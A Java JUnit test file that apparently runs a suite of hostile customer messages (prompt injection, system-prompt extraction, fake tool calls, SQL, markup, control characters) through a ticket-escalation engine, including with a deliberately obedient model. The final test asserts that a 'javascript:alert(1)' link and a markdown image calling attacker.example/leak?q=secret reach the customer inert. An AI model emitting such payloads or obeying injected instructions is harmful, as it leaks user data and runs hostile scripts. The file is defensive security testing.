package dev.escalation.core;

import static org.assertj.core.api.Assertions.assertThat;

import dev.escalation.core.simulation.HostileMessage;
import dev.escalation.core.simulation.HostileSuite;
import dev.escalation.core.simulation.ObedientModel;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The adversarial suite ({@code hostile/messages.jsonl}) through the engine on the in-memory store,
 * read by the offline model and by a model that obeys every instruction in the message; see
 * {@link HostileSuite} for what must hold. The same suite runs on SQLite (escalation-store) and with
 * the obedient model behind a real HTTP server (escalation-llm).
 */
class HostileInputTest {

    static List<HostileMessage> messages() {
        return HostileMessage.all();
    }

    private static HostileSuite.Stores inMemory() {
        InMemoryStore store = new InMemoryStore();
        return new HostileSuite.Stores(store, store);
    }

    @Test
    void theSuiteHasAtLeastThirtyMessagesCoveringEveryCategory() {
        Map<String, Long> byCategory = messages().stream()
                .collect(Collectors.groupingBy(HostileMessage::category, TreeMap::new, Collectors.counting()));

        assertThat(messages()).hasSizeGreaterThanOrEqualTo(30);
        assertThat(byCategory)
                .containsKeys(
                        "prompt_injection",
                        "system_prompt",
                        "fake_tool_call",
                        "foreign_ticket",
                        "sql",
                        "markup",
                        "control_chars",
                        "zero_width",
                        "rtl_override",
                        "empty",
                        "invalid_surrogate",
                        "oversize");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("messages")
    void theOfflineModelKeepsEveryGuaranteeForHostileMessages(HostileMessage message) {
        HostileSuite.check(
                message,
                HostileInputTest::inMemory,
                (world, m) -> EscalationEngine.builder().languageModel(new OfflineLanguageModel()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("messages")
    void aModelThatObeysTheMessageCannotBreakAnyGuarantee(HostileMessage message) {
        HostileSuite.check(
                message,
                HostileInputTest::inMemory,
                (world, m) -> EscalationEngine.builder()
                        .languageModel(new ObedientModel(m, world.victimTicket(), world.ownTicket())));
    }

    @Test
    void anObeyedConfirmationWithoutAYesShowsTheSummaryAgain() {
        HostileMessage fiveTickets = messages().stream()
                .filter(m -> m.id().equals("five-tickets"))
                .findFirst()
                .orElseThrow();

        HostileSuite.Outcome outcome = HostileSuite.check(
                fiveTickets,
                HostileInputTest::inMemory,
                (world, m) ->
                        EscalationEngine.builder().languageModel(new ObedientModel(m, world.victimTicket(), null)));

        assertThat(outcome.result().state()).isEqualTo(State.CONFIRMATION);
        assertThat(outcome.reply()).contains("Shall I create the ticket?");
    }

    @Test
    void anObedientModelsRepeatedMarkupReachesTheCustomerInert() {
        HostileMessage markdown = messages().stream()
                .filter(m -> m.id().equals("markdown-link"))
                .findFirst()
                .orElseThrow();

        HostileSuite.Outcome outcome = HostileSuite.check(
                markdown,
                HostileInputTest::inMemory,
                (world, m) ->
                        EscalationEngine.builder().languageModel(new ObedientModel(m, world.victimTicket(), null)));

        assertThat(outcome.reply())
                .contains("[my invoice] (javascript:alert(1))")
                .contains("![x] (https://attacker.example/leak?q=secret)");
    }
}
